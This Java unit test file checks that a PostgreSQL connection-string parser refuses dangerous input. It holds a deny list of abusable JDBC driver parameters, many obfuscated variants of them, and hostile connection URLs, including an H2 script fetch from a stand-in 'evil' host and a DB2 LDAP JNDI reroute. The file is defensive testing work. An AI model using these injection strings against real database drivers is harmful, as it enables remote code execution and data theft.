package org.headstart.warehouse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.headstart.api.Providers;
import org.headstart.api.warehouse.WarehouseException;
import org.headstart.warehouse.PostgresAddress.Parameter;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a location may hold, and what it may not: the driver has parameters that load classes and write files. */
class PostgresAddressTest {

    /** The driver's parameters that run code, read or write files, or weaken what is durable, and those of other programs that were misused. */
    private static final List<String> MISUSED = List.of(
            "socketFactory",
            "socketFactoryArg",
            "sslfactory",
            "sslfactoryarg",
            "sslhostnameverifier",
            "sslpasswordcallback",
            "sslkey",
            "sslcert",
            "authenticationPluginClassName",
            "loggerFile",
            "loggerLevel",
            "service",
            "options",
            "jaasApplicationName",
            "kerberosServerName",
            "localSocketAddress",
            "autosave",
            "readOnly",
            "INIT",
            "autoDeserialize",
            "allowLoadLocalInfile",
            "queryInterceptors",
            "TRACE_LEVEL_FILE");

    private static final String LOADED = "headstart.test.evil";
    private static final String EVIL = "org.headstart.warehouse.PostgresAddressTest$EvilFactory";

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://localhost/w, jdbc:postgresql://localhost:5432/w",
        "jdbc:postgresql://10.0.0.7:6543/my-db, jdbc:postgresql://10.0.0.7:6543/my-db",
        "jdbc:postgresql://[::1]:1/größe, jdbc:postgresql://[::1]:1/größe",
        "jdbc:postgresql://db.example.org/w?currentSchema=a_1&user=eva@host, jdbc:postgresql://db.example.org:5432/w?user=eva@host&currentSchema=a_1",
        "jdbc:postgresql://h/w?sslmode=verify-full&sslrootcert=/etc/ca/root.crt&connectTimeout=3,"
                + " jdbc:postgresql://h:5432/w?sslmode=verify-full&sslrootcert=/etc/ca/root.crt&connectTimeout=3"
    })
    void parse_allowed_isReadIntoItsFields(String location, String same) {
        PostgresAddress address = PostgresAddress.parse(location);

        assertThat(address).hasToString(same);
        assertThat(PostgresAddress.parse(same)).isEqualTo(address);
    }

    @Test
    void parse_everyField_hasItsValue() {
        PostgresAddress address = PostgresAddress.parse("jdbc:postgresql://[fe80::1]:77/w?user=eva&currentSchema=s");

        assertThat(address.host()).isEqualTo("[fe80::1]");
        assertThat(address.port()).isEqualTo(77);
        assertThat(address.database()).isEqualTo("w");
        assertThat(address.get(Parameter.USER)).isEqualTo("eva");
        assertThat(address.schema()).isEqualTo("s");
        assertThat(address.get(Parameter.SSL_MODE)).isNull();
    }

    /** Each in the letters that it is known by, in others, percent-encoded, and behind control characters and separators. */
    static Stream<String> attacks() {
        List<String> attacks = new ArrayList<>();
        for (String name : MISUSED) {
            List<String> disguises = List.of(
                    name,
                    name.toUpperCase(Locale.ROOT),
                    "%" + Integer.toHexString(name.charAt(0)) + name.substring(1),
                    "%25" + Integer.toHexString(name.charAt(0)) + name.substring(1),
                    name + " ",
                    " " + name,
                    "\t" + name,
                    "\u0000" + name,
                    name + "\n",
                    "\u200b" + name,
                    "user=a;" + name,
                    "user=a&amp;" + name,
                    "user=a&&" + name);
            disguises.forEach(disguise -> attacks.add("jdbc:postgresql://host/db?" + disguise + "=" + EVIL));
            String nested = name;
            for (int depth = 1; depth <= 10; depth++) {
                nested = encoded(nested);
                attacks.add("jdbc:postgresql://host/db?" + nested + "=" + EVIL);
                attacks.add("jdbc:postgresql://host/db?user=" + "%" + "25".repeat(depth) + "26" + name + "=" + EVIL);
            }
            attacks.add(
                    "jdbc:postgresql://host/db?" + name.replace('s', '\u017f').replace('i', '\u0131') + "=" + EVIL);
            attacks.add("jdbc:postgresql://host/db%3f" + name + "=" + EVIL);
            attacks.add("jdbc:postgresql://host%2fdb?" + name + "=" + EVIL);
        }
        return attacks.stream();
    }

    /** Every letter by its number, and what was encoded before once more. */
    private static String encoded(String text) {
        StringBuilder encoded = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char letter = text.charAt(i);
            encoded.append(
                    letter == '%' ? "%25" : Character.isLetter(letter) ? "%%%02x".formatted((int) letter) : letter);
        }
        return encoded.toString();
    }

    /** What an attack names, and the driver would make an instance of. */
    static final class EvilFactory {
        static {
            System.setProperty(LOADED, "true");
        }
    }

    @AfterAll
    static void noAttackLoadsAClass() {
        assertThat(System.getProperty(LOADED)).isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://host/db?autoDeserialize=true&queryInterceptors=evil",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:tcp://evil/x",
                "jdbc:derby:evil;create=true",
                "jdbc:hsqldb:mem:evil",
                "jdbc:oracle:thin:@evil",
                "jdbc:sqlserver://evil;databaseName=x",
                "jdbc:db2://evil:50000/x:clientRerouteServerListJNDIName=ldap://evil;",
                "jdbc:sqlite:evil.db?enable_load_extension=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:pgsql://evil/db",
                "jdbc: postgresql://evil/db",
                " jdbc:postgresql://evil/db",
                "jdbc\t:postgresql://evil/db",
                "ldap://evil/x",
                "http://evil/x.db",
                "JdBc:SqLiTe:evil.db"
            })
    void open_otherDriver_isRefused(String location) {
        assertThatThrownBy(() -> Providers.warehouse(location))
                .isInstanceOf(WarehouseException.class)
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("evil"));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void parse_parameterThatIsNotAllowed_isRefusedWithoutItsValue(String location) {
        assertRefused(location);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql:db",
                "jdbc:postgresql:/db",
                "jdbc:postgresql://host",
                "jdbc:postgresql://host/",
                "jdbc:postgresql:///db",
                "JDBC:postgresql://host/db",
                "jdbc:PostgreSQL://host/db",
                "jdbc:postgresql://host:0/db",
                "jdbc:postgresql://host:65536/db",
                "jdbc:postgresql://host:evil/db",
                "jdbc:postgresql://host:/db",
                "jdbc:postgresql://a,evil/db",
                "jdbc:postgresql://ho%73t/db",
                "jdbc:postgresql://host/d%62",
                "jdbc:postgresql://host/a/evil",
                "jdbc:postgresql://host/../evil",
                "jdbc:postgresql://-evil/db",
                "jdbc:postgresql://host/db?",
                "jdbc:postgresql://host/db?user",
                "jdbc:postgresql://host/db?user=",
                "jdbc:postgresql://host/db?user=a&user=evil",
                "jdbc:postgresql://host/db?user=a b",
                "jdbc:postgresql://host/db?sslmode=evil",
                "jdbc:postgresql://host/db?sslrootcert=evil.crt",
                "jdbc:postgresql://host/db?sslrootcert=classpath:evil",
                "jdbc:postgresql://host/db?connectTimeout=0",
                "jdbc:postgresql://host/db?connectTimeout=-1",
                "jdbc:postgresql://host/db?currentSchema=a,evil",
                "jdbc:postgresql://host/db?currentSchema=\"evil\"",
                "jdbc:postgresql://host/db?currentSchema=A",
                "jdbc:postgresql://host/db?currentSchema=a?evil",
                "jdbc:postgresql://host/db#evil",
                "jdbc:postgresql://host/db;evil",
                "jdbc:postgresql://host\\evil/db",
                "jdbc:postgresql://host/db\r\nevil"
            })
    void parse_anythingElse_isRefusedWithoutWhatItHolds(String location) {
        assertRefused(location);
    }

    private static void assertRefused(String location) {
        assertThatThrownBy(() -> Providers.warehouse(location))
                .isInstanceOf(WarehouseException.class)
                .hasMessageContaining("PostgreSQL")
                .satisfies(e -> assertThat(e.getMessage()).doesNotContainIgnoringCase("evil"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://eva:geheim@host/db",
                "jdbc:postgresql://geheim@host/db",
                "jdbc:postgresql://host/db?password=geheim",
                "jdbc:postgresql://host/db?user=eva&PASSWORD=geheim",
                "jdbc:postgresql://host/db?sslpassword=geheim"
            })
    void parse_password_isRefusedUnseenWithAHintWhereItBelongs(String location) {
        assertThatThrownBy(() -> Providers.existingWarehouse(location))
                .isInstanceOf(WarehouseException.class)
                .hasMessageContaining("PGPASSWORD")
                .hasMessageContaining(".pgpass")
                .satisfies(e -> assertThat(e.toString()).doesNotContain("geheim"));
    }

    @Test
    void parse_unknownParameter_namesItAndAllThatThereAre() {
        assertThatThrownBy(() -> PostgresAddress.parse("jdbc:postgresql://host/db?socketFactory=x"))
                .hasMessageContaining("'socketFactory'")
                .hasMessageContaining("user, sslmode, sslrootcert, connectTimeout, currentSchema");
    }
}
